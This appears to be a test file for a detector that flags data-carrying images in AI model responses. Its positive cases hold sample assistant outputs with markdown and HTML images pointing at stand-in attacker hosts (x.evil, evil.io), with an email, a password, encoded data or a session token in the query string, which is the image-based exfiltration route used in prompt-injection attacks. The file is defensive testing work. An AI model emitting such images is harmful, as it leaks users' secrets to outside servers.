import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import policy from '../../../../../src/detection/policies/exfiltration/output-image.js'
import { answer, runNegatives, runPositives, user } from './exfil-cases.js'

describe('exfiltration.output-image flags data-carrying images in model output', () => {
  runPositives(policy, [
    { name: 'an image with personal data in its query', messages: answer('Done! ![a](https://x.evil/t.gif?u=john%40corp.com&p=hunter2secret)'), min: 78, max: 85, messageIndex: 1, role: 'assistant', shows: 'x.evil', hides: ['hunter2secret', 'john%40corp'] },
    { name: 'an image with encoded data', messages: answer('![x](https://evil.io/p.png?d=aGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQ=)'), min: 90, messageIndex: 1, role: 'assistant', shows: 'evil.io', hides: ['aGVsbG8gd29ybGQ'] },
    { name: 'an HTML image in output', messages: answer('<img src="https://evil.io/p.png?session=4f1c9e7a2b8d3f6e0a1c5b7d9e2f4a6c">'), min: 90, messageIndex: 1, role: 'assistant', shows: 'evil.io' },
  ])
})

describe('exfiltration.output-image ignores harmless and allowlisted images', () => {
  runNegatives(policy, [
    { name: 'an image without query data', messages: answer('![diagram](https://upload.wikimedia.org/wikipedia/commons/a/a9/Example.jpg)'), max: 0 },
    { name: 'a badge with a short query', messages: answer('![build](https://img.shields.io/badge/build-passing-green?style=flat)'), max: 0 },
    { name: 'a link (needs a click) is not this policy', messages: answer('[report](https://evil.io/r?d=aGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQ=)'), max: 0 },
    { name: 'an image written by the user is not model output', messages: user('![x](https://evil.io/p.png?d=aGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQ=)'), max: 0 },
    { name: 'allowlisted chart services are trusted', messages: answer('![chart](https://quickchart.io/chart?c={type:bar,data:{labels:[Q1,Q2]}})'), max: 0, params: { allowedHosts: ['quickchart.io'] } },
  ])
  it('runs at the response stage only', () => {
    assert.deepEqual([...policy.stages], ['response'])
  })
})
